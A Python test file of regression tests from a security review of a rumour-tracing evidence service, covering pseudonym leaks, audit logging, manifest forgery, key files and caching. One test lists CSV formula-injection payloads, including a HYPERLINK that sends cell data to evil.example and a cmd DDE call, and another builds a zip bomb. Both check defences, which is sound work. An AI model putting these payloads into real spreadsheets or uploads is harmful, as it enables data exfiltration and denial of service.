"""Defects found by the session-8 review of the service (one test per defect; each failed
before its fix). Shares the module server of tests/test_service.py."""
from __future__ import annotations

import orjson
import pytest

from tests.service_helpers import get
import tests.test_service
import tests.test_service_evidence
from tests.test_service_evidence import _members, _verify, _zip, forged_members

# The module-scoped fixtures of tests/test_service.py (the server; this module gets one of its own)
# and tests/test_service_evidence.py (an evidence package from that server).
env = tests.test_service.env
package = tests.test_service_evidence.package


def test_analyst_404_for_a_pseudonym_does_not_name_the_clear_account(env):
    # "police" posted jn-1's debunk: a known account of the rumour with no chain in its
    # cascade, so its pseudonym resolves but the trace finds nothing.
    p = env["service"].pseudo
    assert "police" in env["store"].rumour_accounts("jn-1")
    status, _, body = get(env["url"] + f"/api/rumours/jn-1/accounts/{p('police')}/trace",
                          env["tok"]["analyst"])
    assert status == 404
    assert b"police" not in body
    assert orjson.loads(body)["error"] == f"unknown account {p('police')!r}"
    # a liaison sees the account in clear anyway
    status, _, body = get(env["url"] + f"/api/rumours/jn-1/accounts/{p('police')}/trace",
                          env["tok"]["liaison"], case="C-R1")
    assert status == 404 and b"police" in body


def test_audit_row_records_the_parameters_the_answer_used(env):
    url, tok, store = env["url"], env["tok"], env["store"]
    status, _, body = get(url + "/api/rumours/jn-1/trace?k=0", tok["liaison"], case="C-R1")
    assert status == 200 and orjson.loads(body)["cutoff"] == []  # k=5 would give "hub"
    assert orjson.loads(store.audit_rows(limit=1)[0]["params"])["k"] == "0"
    # a repeated parameter is refused (which one counts would be a guess); its row keeps the first
    status, _, body = get(url + "/api/rumours/jn-1/trace?k=0&k=5", tok["liaison"], case="C-R2")
    assert status == 400 and orjson.loads(body)["error"] == "k: given more than once"
    row = store.audit_rows(limit=1)[0]
    assert row["status"] == 400 and orjson.loads(row["params"])["k"] == "0"
    # unknown parameters are refused too; the row keeps the declared one after ten others
    padding = "&".join(f"x{i}=1" for i in range(12))
    status, _, body = get(url + f"/api/rumours/jn-1/trace?{padding}&k=0", tok["liaison"], case="C-R3")
    assert status == 400 and "'x0'" in orjson.loads(body)["error"]
    params = orjson.loads(store.audit_rows(limit=1)[0]["params"])
    assert params["k"] == "0" and len(params) == 11


def test_a_failed_trace_still_writes_its_audit_row(env, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("graph store unreachable")

    monkeypatch.setattr(env["service"].views, "trace", broken)
    before = len(env["store"].audit_rows(limit=100_000))
    status, _, body = get(env["url"] + "/api/rumours/jn-1/trace?k=3", env["tok"]["liaison"], case="C-R4")
    assert status == 500 and b"unreachable" not in body and b"Traceback" not in body
    assert len(env["store"].audit_rows(limit=100_000)) == before + 1
    row = env["store"].audit_rows(limit=1)[0]
    assert (row["status"], row["case_id"], row["action"], row["answer_sha256"]) == (500, "C-R4", "trace", "")


@pytest.mark.parametrize("change", [
    {"files": ["evidence.json", "chain.csv", "report.html"]},  # a list, not name -> digest
    {"files": {"evidence.json": "é" * 64, "chain.csv": "0" * 64, "report.html": "0" * 64}},
    {"files": {"evidence.json": 1, "chain.csv": "0" * 64, "report.html": "0" * 64}},
    {"signature": ["HMAC-SHA256", "x"]},
])
def test_verify_reports_a_crafted_manifest_instead_of_crashing(env, package, tmp_path, change):
    m = _members(package[0])
    m["manifest.json"] = orjson.dumps(orjson.loads(m["manifest.json"]) | change)
    code, err = _verify(env, _zip(m), tmp_path)
    assert code == 1 and "TAMPERED" in err


@pytest.mark.parametrize("field,value", [("case_id", "EV-2"), ("rumour_id", "qd-1"),
                                         ("generated_at", "2020-01-01T00:00:00Z")])
def test_verify_catches_a_manifest_relabelled_to_another_case(env, package, tmp_path, field, value):
    m = _members(package[0])
    manifest = orjson.loads(m["manifest.json"])
    assert manifest[field] != value
    m["manifest.json"] = orjson.dumps(manifest | {field: value})  # hashes and signature untouched
    code, err = _verify(env, _zip(m), tmp_path)
    assert code == 1 and field in err
    # the untouched package still verifies (the check compares, it does not refuse)
    assert _verify(env, package[0], tmp_path)[0] == 0


def test_chain_csv_cells_cannot_run_as_spreadsheet_formulas():
    import csv
    import io

    from streams.service import evidence

    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0",
               "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
    hops = [{"event_id": v, "account_id": v, "ts": "2025-12-01T00:00:00.000Z", "platform": v,
             "region": v, "text_sha256": "0" * 64, "observed": True} for v in hostile]
    hops.append({"event_id": "e1", "account_id": "weibo:42", "ts": None, "platform": "weibo",
                 "region": "370102", "text_sha256": None, "observed": False})
    rows = list(csv.reader(io.StringIO(evidence.chain_csv({"chains": [{"hops": hops}]}).decode("utf-8-sig"))))
    for row, value in zip(rows[1:], hostile):
        for cell in (row[2], row[3], row[5], row[6]):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            assert cell == "'" + value  # the value itself is kept, marked as text
    assert rows[-1][2:7] == ["e1", "weibo:42", "", "weibo", "370102"]


def test_verify_without_key_or_digest_does_not_call_a_forgery_intact(env, package, tmp_path):
    forged = _zip(forged_members(package[0]))
    nokey = ("--tokens-file", str(tmp_path / "elsewhere" / "tokens.json"))  # no evidence.key there
    code, err = _verify(env, forged, tmp_path, *nokey)
    assert code != 0 and "UNVERIFIED" in err
    # a key file named but unreadable is an error, not a silent skip of the signature
    code, err = _verify(env, forged, tmp_path, "--key-file", str(tmp_path / "typo.key"))
    assert code == 2 and "typo.key" in err
    # the genuine package still verifies with the key, or with the audit log's digest alone
    assert _verify(env, package[0], tmp_path)[0] == 0
    assert _verify(env, package[0], tmp_path, *nokey, "--digest", package[1])[0] == 0


@pytest.mark.parametrize("content", [b"", b"short"])
def test_a_short_key_file_is_refused_not_used(tmp_path, content):
    from streams.service.paths import load_or_create_key

    path = tmp_path / "evidence.key"
    path.write_bytes(content)  # an emptied or truncated key: HMAC under it is forgeable
    with pytest.raises(ValueError, match="16 bytes"):
        load_or_create_key(path)
    assert path.read_bytes() == content  # left for the operator to restore
    fresh = load_or_create_key(tmp_path / "new.key")
    assert len(fresh) == 32 and load_or_create_key(tmp_path / "new.key") == fresh


def test_same_evidence_input_gives_the_same_zip_bytes(monkeypatch):
    import io
    import time
    import zipfile

    from streams.service import evidence
    from streams.service.evidence_verify import verify

    meta = {"case_id": "EV-R", "generated_at": "2025-12-01T08:30:16Z",  # zip times: 2 s steps
            "generated_by": {"token_id": "0123456789ab", "name": "l", "role": "liaison",
                             "jurisdiction": "370000"}}
    trace = {"rumour_id": "r", "events": 1, "origins": [], "confidence_method": "m", "chains": [],
             "cutoff": []}
    first, digest = evidence.build(meta, trace, b"k" * 32)
    later = time.time() + 7 * 3600 + 3  # another hour and second on the server's clock
    monkeypatch.setattr(time, "time", lambda: later)
    again, digest2 = evidence.build(meta, trace, b"k" * 32)
    assert digest == digest2 and first == again
    stamps = {i.date_time for i in zipfile.ZipFile(io.BytesIO(first)).infolist()}
    assert stamps == {(2025, 12, 1, 8, 30, 16)}
    assert verify(first, b"k" * 32).ok


def test_analyst_cannot_map_a_guessed_clear_id_to_its_pseudonym(env):
    p = env["service"].pseudo
    before = len(env["store"].audit_rows(limit=100_000))
    status, _, body = get(env["url"] + "/api/rumours/jn-1/accounts/hub/trace", env["tok"]["analyst"])
    assert status == 403 and p("hub").encode() not in body
    row = env["store"].audit_rows(limit=1)[0]  # the attempt is on record
    assert len(env["store"].audit_rows(limit=100_000)) == before + 1
    assert (row["action"], row["status"]) == ("trace_account", 403)
    assert orjson.loads(row["params"])["account_id"] == "hub"
    # the pseudonym still works for the analyst, and the clear id for the liaison
    assert get(env["url"] + f"/api/rumours/jn-1/accounts/{p('hub')}/trace", env["tok"]["analyst"])[0] == 200
    status, _, _ = get(env["url"] + "/api/rumours/jn-1/accounts/hub/trace", env["tok"]["liaison"], case="C-R5")
    assert status == 200


@pytest.mark.parametrize("path,who", [("/api/rumours/jn-1/trace", "liaison"),
                                      ("/api/rumours/jn-1/evidence?case=C-R6", "liaison"),
                                      ("/api/rumours/jn-1/tree", "analyst"), ("/api/me", "analyst"),
                                      ("/api/rumours/nope/trace", "liaison")])
def test_protected_answers_are_not_cacheable(env, path, who):
    status, headers, _ = get(env["url"] + path, env["tok"][who], case="C-R6")
    assert status in (200, 404)
    assert "no-store" in headers.get("Cache-Control", "")
    # the open page's script may still be cached as before
    assert "no-store" not in get(env["url"] + "/static/app.js")[1].get("Cache-Control", "")


def test_verify_does_not_unpack_a_zip_bomb(env, package, tmp_path):
    import tracemalloc
    import zipfile

    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in _members(package[0]).items():
            if name != "evidence.json":
                z.writestr(name, data)
        with z.open("evidence.json", "w") as fh:  # 300 MB of zeros, ~300 KB packed
            block = b"\0" * (1 << 20)
            for _ in range(300):
                fh.write(block)
    tracemalloc.start()
    try:
        code, err = _verify(env, path.read_bytes(), tmp_path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert code == 1 and "evidence.json" in err
    assert peak < 64 << 20, peak
